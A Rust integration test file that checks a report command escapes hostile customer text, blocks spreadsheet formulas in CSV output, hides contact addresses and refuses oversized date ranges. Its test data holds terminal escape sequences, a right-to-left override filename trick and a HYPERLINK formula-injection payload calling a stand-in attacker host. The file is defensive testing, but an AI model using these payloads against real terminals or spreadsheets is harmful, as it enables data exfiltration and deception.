//! `kotae report` against customer text and absurd ranges (issue 17): control characters
//! never reach the terminal, CSV cells cannot start a spreadsheet formula, every question is
//! still listed (streamed), and a period is at most 366 days.

use std::path::Path;

use crate::util::{kotae, repo, stderr, stdout};

const HOSTILE: &[&str] = &[
    "\u{1b}]0;pwned\u{7}title",
    "\u{1b}[2J\u{1b}[Hcleared",
    "carriage\rreturn",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"クリック\")",
    "@SUM(A1)",
    "\u{9b}31mc1\u{202e}txt.exe",
];

/// An events database with hostile queries (zero results) and questions, an hour old.
fn hostile_log(dir: &Path) -> std::path::PathBuf {
    let db = dir.join("events.sqlite3");
    let store = kotae_events::Store::open(&db).unwrap();
    let ts = kotae_events::now() - 3_600;
    let searches: Vec<kotae_events::Event> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, q)| {
            kotae_events::Event::Search(kotae_events::Search {
                id: format!("h{i}"),
                ts,
                session: None,
                prev: None,
                query: q.to_string(),
                normalized: q.to_string(),
                source: "help".into(),
                audience: "public".into(),
                hits: 0,
                top_ids: Vec::new(),
                latency_ms: 1,
            })
        })
        .collect();
    store.record_all(&searches).unwrap();
    for q in HOSTILE {
        let question = kotae_events::Question {
            ts,
            session: None,
            search_id: None,
            article: None,
            query: None,
            question: format!("{q}\r\n二行目"),
            contact: Some("secret@example.com".into()),
        };
        store.record_question(&question).unwrap();
    }
    db
}

fn report(db: &Path, extra: &[&str]) -> std::process::Output {
    let mut args = vec!["report", "--events", db.to_str().unwrap(), "--index", "/nonexistent/kotae-index"];
    args.extend_from_slice(extra);
    kotae(&repo(), &args)
}

/// A control character a terminal would act on (C0 but the newline, DEL, C1), or a
/// bidirectional override.
fn hazard(c: char) -> bool {
    (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
}

#[test]
fn report_text_carries_no_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_log(dir.path());
    let out = report(&db, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let raw: Vec<char> = text.chars().filter(|c| hazard(*c)).collect();
    assert!(raw.is_empty(), "control characters reach the terminal: {raw:?}\n{text:?}");
    assert!(text.contains(r"\x1b]0;pwned\x07title"), "they are shown escaped: {text}");
    assert!(text.contains(r"\u{9b}31mc1\u{202e}txt.exe"), "{text}");
    assert!(text.contains("carriage return"), "a line break in a query is a space: {text}");
    assert!(text.contains(&format!("Questions sent ({})", HOSTILE.len())), "{text}");
    assert!(text.contains("carriage return 二行目 [連絡先あり]"), "each question on one line: {text}");
    assert!(!text.contains("secret@example.com"));
}

#[test]
fn report_csv_cells_cannot_start_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_log(dir.path());
    let out = report(&db, &["--format", "csv"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = stdout(&out);
    assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""クリック"")""#), "{csv}");
    assert!(csv.contains("'@SUM(A1)"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains("\n=HYPERLINK") && !csv.contains("\"=HYPERLINK"), "{csv}");
    assert!(!csv.chars().any(|c| hazard(c) && c != '\t'), "control characters are escaped in CSV too: {csv:?}");
    assert!(csv.contains("二行目"), "a question keeps its line break inside its cell");
    assert!(!csv.contains("secret@example.com"));
    let questions = report(&db, &["--format", "csv", "--report", "questions"]);
    assert_eq!(stdout(&questions).matches("二行目").count(), HOSTILE.len(), "every question is listed");

    let json = report(&db, &["--format", "json"]);
    assert!(json.status.success(), "{}", stderr(&json));
    let v: serde_json::Value = serde_json::from_str(&stdout(&json)).expect("JSON");
    assert_eq!(v["questions"].as_array().unwrap().len(), HOSTILE.len());
    assert!(v["questions"][0].get("contact").is_none(), "contact addresses stay in the console");
    assert!(!stdout(&json).contains('\u{1b}'), "JSON escapes control characters");
}

#[test]
fn report_periods_are_at_most_366_days() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_log(dir.path());
    for since in ["367d", "400d", "53w", "0001-01-01", "1970-01-01", "+262142-12-31", "-262143-01-01", "99999999999999999d", "9223372036854775807m"] {
        let out = report(&db, &[&format!("--since={since}")]);
        assert!(!out.status.success(), "--since {since} is refused");
        let err = stderr(&out);
        assert!(!err.contains("panicked"), "--since {since}: {err}");
        assert!(err.contains("--since") || err.contains(since), "--since {since}: the message names it: {err}");
    }
    assert!(stderr(&report(&db, &["--since", "400d"])).contains("at most 366 days"));
    for since in ["366d", "52w", "30d", "12h"] {
        let out = report(&db, &["--since", since]);
        assert!(out.status.success(), "--since {since}: {}", stderr(&out));
    }
}
